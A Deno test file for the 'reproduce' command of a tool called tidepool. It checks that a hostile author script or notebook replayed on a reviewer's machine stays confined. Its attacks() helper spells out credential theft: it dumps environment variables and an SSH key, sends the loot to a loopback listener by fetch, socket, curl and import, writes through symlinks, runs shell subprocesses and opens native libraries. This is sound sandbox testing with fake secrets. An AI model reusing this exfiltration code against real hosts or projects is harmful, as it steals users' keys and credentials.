/**
 * `reproduce` on a project written by someone else. The author's script
 * (and notebook) behaves when recording and, when replayed, tries every way
 * out: it reads the reviewer's environment (a fake OCEAN_PRIVATE_KEY and
 * cloud key placed there) and home folder, writes outside its folder,
 * starts a subprocess, opens a native library, writes through a symbolic
 * link it makes, and sends what it found to a 127.0.0.1 listener this test
 * runs (by fetch, by a socket, by curl, by a dynamic import). Each attempt's
 * failure is swallowed, so the run goes on to write its bundle as if all
 * were well. The test then looks for itself: the listener's connection
 * count, the folder outside and the home folder's files byte for byte, the
 * project's own files, and every byte reproduce printed.
 */

import assert from "node:assert/strict";
import { childEnvironment, codeCell, jupyterAvailable } from "../_child_runs.ts";
import {
  projectFolder,
  reproduceCommand,
  runAuthor,
  snapshot,
  TIDEPOOL_MOD,
} from "../bundle/_paper_project.ts";

const FAKE_KEY = "0x4c0883a69102937d6231471b5dbb6204fe512961708279f7a3b8ea1f7e8b7b2e";
const CLOUD_KEY = "AKIAFAKEFAKEFAKE/wJalrXUtnFEMIK7MDENGbPxRfiCY";
const HOME_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- fake-home-secret";

/** The hostile code: what it tries in replay, each attempt's failure swallowed. */
function attacks(port: number, outside: string, home: string): string {
  return `
const attempt = async (run: () => unknown) => { try { await run(); } catch { /* on, as if all were well */ } };
if (Deno.env.get("TIDEPOOL_CACHE_MODE") === "replay") {
  let loot = "";
  await attempt(() => { loot += JSON.stringify(Deno.env.toObject()); });
  await attempt(async () => { loot += await Deno.readTextFile("${home}/.ssh/id_rsa"); });
  await attempt(() => Deno.writeTextFile("${outside}/written.txt", loot || "wrote"));
  await attempt(() => Deno.mkdir("${outside}/made"));
  await attempt(() => fetch("http://127.0.0.1:${port}/fetch", { method: "POST", body: loot }));
  await attempt(async () => {
    const socket = await Deno.connect({ hostname: "127.0.0.1", port: ${port} });
    await socket.write(new TextEncoder().encode(loot));
    socket.close();
  });
  await attempt(() => new Deno.Command("sh", {
    args: ["-c", "echo \\"$OCEAN_PRIVATE_KEY\\" > ${outside}/subprocess.txt; curl -s -m 5 http://127.0.0.1:${port}/curl"],
  }).output());
  await attempt(() => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }));
  await attempt(async () => {
    await Deno.symlink("${outside}", "escape");
    await Deno.writeTextFile("escape/through-link.txt", loot || "through");
  });
  await attempt(() => import("http://127.0.0.1:${port}/import.js?" + encodeURIComponent(loot.slice(0, 300))));
}
`;
}

/** A loopback listener that counts every connection made to it. */
function listener() {
  const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let connections = 0;
  const accepting = (async () => {
    for await (const connection of server) {
      connections++;
      connection.close();
    }
  })().catch(() => {});
  return {
    port: server.addr.port,
    get connections() {
      return connections;
    },
    async close() {
      server.close();
      await accepting;
    },
  };
}

/** The reviewer's machine: a home folder with a key, a folder outside the project, secrets in the environment. */
async function reviewerMachine(scene: string) {
  const home = `${scene}/home`;
  const outside = `${scene}/outside`;
  await Deno.mkdir(`${home}/.ssh`, { recursive: true });
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, HOME_SECRET);
  await Deno.mkdir(outside);
  await Deno.writeTextFile(`${outside}/keep.txt`, "the reviewer's own file");
  const environment = childEnvironment({
    HOME: home,
    OCEAN_PRIVATE_KEY: FAKE_KEY,
    AWS_SECRET_ACCESS_KEY: CLOUD_KEY,
  });
  return { home, outside, environment };
}

/** What must hold after the hostile run, checked without asking tidepool. */
function assertNothingEscaped(
  printed: string,
  net: { connections: number },
  before: { outside: Map<string, string>; home: Map<string, string>; project: Map<string, string> },
  after: { outside: Map<string, string>; home: Map<string, string>; project: Map<string, string> },
) {
  assert.equal(net.connections, 0, "no connection reached the loopback listener");
  assert.deepEqual(after.outside, before.outside, "nothing outside the project changed");
  assert.deepEqual(after.home, before.home, "nothing in the home folder changed");
  assert.deepEqual(after.project, before.project, "the author's project is as it was");
  for (const secret of [FAKE_KEY, CLOUD_KEY, HOME_SECRET, FAKE_KEY.slice(2, 14)]) {
    assert.ok(!printed.includes(secret), `reproduce printed ${secret.slice(0, 12)}…`);
  }
}

Deno.test("reproduce confines a hostile script: no environment, home, network, subprocess, FFI or write outside", async () => {
  const scene = await Deno.makeTempDir({ prefix: "tidepool-hostile-project-" });
  const net = listener();
  try {
    const { home, outside, environment } = await reviewerMachine(scene);
    const project = `${scene}/project`;
    await projectFolder(project);
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `import * as aq from "arquero";
import { saveBundle } from "${TIDEPOOL_MOD}";
${attacks(net.port, outside, home)}
await saveBundle("out/bundle", { draft: true, tables: { counts: aq.table({ n: [1, 2, 3] }) } });
`,
    );
    await runAuthor(project, "paper.ts");
    const before = {
      outside: await snapshot(outside),
      home: await snapshot(home),
      project: await snapshot(project),
    };
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`, "--recording", `${project}/.cache/tidepool`],
      environment,
    );
    const printed = run.stdout + run.stderr;
    assertNothingEscaped(printed, net, before, {
      outside: await snapshot(outside),
      home: await snapshot(home),
      project: await snapshot(project),
    });
    // And the run itself went through: the confinement stopped the attempts, not the paper.
    assert.equal(run.code, 0, printed);
    assert.match(run.stdout, /reproduced: 1 of 1 tables/);
  } finally {
    await net.close();
    await Deno.remove(scene, { recursive: true });
  }
});

Deno.test({
  name: "reproduce confines a hostile notebook the same way",
  ignore: !jupyterAvailable() && Deno.env.get("CI") !== "true",
  async fn() {
    const scene = await Deno.makeTempDir({ prefix: "tidepool-hostile-notebook-" });
    const net = listener();
    try {
      const machine = await reviewerMachine(scene);
      const { home, outside } = machine;
      // The reviewer's own HOME, where Jupyter finds its Deno kernel (the secrets stay).
      const environment = { ...machine.environment, HOME: Deno.env.get("HOME") ?? home };
      const project = `${scene}/project`;
      await projectFolder(project);
      const notebook = {
        cells: [
          codeCell(`import * as aq from "arquero";\nimport { saveBundle } from "${TIDEPOOL_MOD}";`),
          codeCell(attacks(net.port, outside, home)),
          codeCell(
            'await saveBundle("out/bundle", { draft: true, tables: { counts: aq.table({ n: [4, 5] }) } });',
          ),
        ],
        metadata: { kernelspec: { name: "deno", display_name: "Deno", language: "typescript" } },
        nbformat: 4,
        nbformat_minor: 5,
      };
      await Deno.writeTextFile(`${project}/paper.ipynb`, JSON.stringify(notebook));
      const author = await new Deno.Command("jupyter", {
        args: [
          "nbconvert",
          "--to",
          "notebook",
          "--execute",
          "--ExecutePreprocessor.kernel_name=deno",
          "--ExecutePreprocessor.timeout=300",
          "--output",
          "executed.ipynb",
          "paper.ipynb",
        ],
        cwd: project,
        env: childEnvironment({ TIDEPOOL_CACHE_MODE: "record" }),
        clearEnv: true,
        stdout: "null",
        stderr: "piped",
      }).output();
      assert.equal(author.code, 0, new TextDecoder().decode(author.stderr).slice(-3000));
      const before = {
        outside: await snapshot(outside),
        home: await snapshot(home),
        project: await snapshot(project),
      };
      const run = await reproduceCommand(
        [
          `${project}/out/bundle`,
          `${project}/paper.ipynb`,
          "--recording",
          `${project}/.cache/tidepool`,
        ],
        environment,
      );
      const printed = run.stdout + run.stderr;
      assertNothingEscaped(printed, net, before, {
        outside: await snapshot(outside),
        home: await snapshot(home),
        project: await snapshot(project),
      });
      assert.equal(run.code, 0, printed);
      assert.match(run.stdout, /reproduced: 1 of 1 tables/);
    } finally {
      await net.close();
      await Deno.remove(scene, { recursive: true });
    }
  },
});

Deno.test("a re-run that prints without end: reproduce keeps only the end of its output", async () => {
  const scene = await Deno.makeTempDir({ prefix: "tidepool-loud-project-" });
  try {
    const project = `${scene}/project`;
    await projectFolder(project);
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `import * as aq from "arquero";
import { saveBundle } from "${TIDEPOOL_MOD}";
if (Deno.env.get("TIDEPOOL_CACHE_MODE") === "replay") {
  const line = new TextEncoder().encode("x".repeat(1023) + "\\n");
  for (let i = 0; i < 64 * 1024; i++) Deno.stderr.writeSync(line); // 64 MB
  throw new Error("the last words");
}
await saveBundle("out/bundle", { draft: true, tables: { counts: aq.table({ n: [1] }) } });
`,
    );
    await runAuthor(project, "paper.ts");
    const run = await reproduceCommand([
      `${project}/out/bundle`,
      `${project}/paper.ts`,
      "--recording",
      `${project}/.cache/tidepool`,
    ]);
    assert.equal(run.code, 1);
    assert.match(run.stderr, /The re-run of paper\.ts failed \(exit code 1\)/);
    assert.match(run.stderr, /the last words/);
    assert.ok(run.stderr.length < 10_000, `reproduce printed ${run.stderr.length} characters`);
  } finally {
    await Deno.remove(scene, { recursive: true });
  }
});
